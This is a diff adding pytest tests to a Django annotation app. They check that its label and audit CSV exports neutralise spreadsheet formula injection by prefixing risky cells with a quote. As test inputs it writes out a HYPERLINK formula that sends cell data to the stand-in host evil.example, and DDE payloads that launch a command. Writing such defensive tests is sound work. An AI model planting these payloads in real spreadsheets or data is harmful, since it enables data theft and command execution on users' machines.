@@ -98,3 +98,54 @@ def test_the_download_is_for_members_only(read_project, client, users):
     assert client.get(url, {"format": "xml"}).status_code == 400
     client.force_login(users["charlie"])
     assert client.get(url, {"format": "csv"}).status_code == 404
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+
+
+def test_csv_cells_never_run_as_spreadsheet_formulas(read_project, client, users):
+    """A class or data set named like a formula (any clinician can name one) is written as
+    text with a leading quote (OWASP CSV injection); numbers stay numbers."""
+    from annotator.models import Dataset
+
+    LabelClass.objects.filter(project=read_project, name="no_tumor").update(name=FORMULA)
+    Dataset.objects.filter(project=read_project, name="brain").update(name="@SUM(1+1)")
+    Dataset.objects.filter(project=read_project).exclude(name="@SUM(1+1)").update(
+        name="\tward -2+3")
+    client.force_login(users["bob"])
+    response = client.get(f"/projects/{read_project.pk}/export/labels/", {"format": "csv"})
+    assert response.status_code == 200
+    table = list(csv.DictReader(io.StringIO(response.content.decode())))
+    labels = {r["label"] for r in table}
+    assert "'" + FORMULA in labels and FORMULA not in labels
+    datasets = {r["dataset"] for r in table}
+    assert datasets == {"'@SUM(1+1)", "'\tward -2+3"}
+    assert not [cell for r in table for cell in r.values()
+                if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    disputed = next(r for r in table if int(r["scan"]) == read_project.pool[1].pk)
+    assert disputed["agreement"] == "0.5"                            # a number: as it was
+    assert json.loads(disputed["answers"])[0]["label"] == FORMULA    # JSON: starts with [
+
+
+@pytest.mark.parametrize("value, written", [
+    ("=1+1", "'=1+1"), ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"), ("-2+3", "'-2+3"),
+    ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("-", "'-"),
+    ("-0.5", "-0.5"), ("+3", "+3"), ("-1e-3", "-1e-3"), (-0.5, -0.5), (None, None),
+    ("no_tumor", "no_tumor"), ("a=b", "a=b"), ("", ""),
+])
+def test_csv_cell(value, written):
+    from annotator.spreadsheet import csv_cell
+
+    assert csv_cell(value) == written
+
+
+def test_the_audit_csv_neutralises_formulas(db, users):
+    from annotator.audit import record, to_csv
+    from annotator.models import AuditEvent
+
+    record(action="class.created", obj_type="label_class", obj_id=1,
+           actor_name="=cmd|' /C calc'!A0", model_version="-2+3",
+           details={"name": FORMULA})
+    rows = list(csv.reader(io.StringIO(to_csv(AuditEvent.objects.all()))))
+    assert rows[1][1] == "'=cmd|' /C calc'!A0" and rows[1][6] == "'-2+3"
+    assert json.loads(rows[1][7]) == {"name": FORMULA}
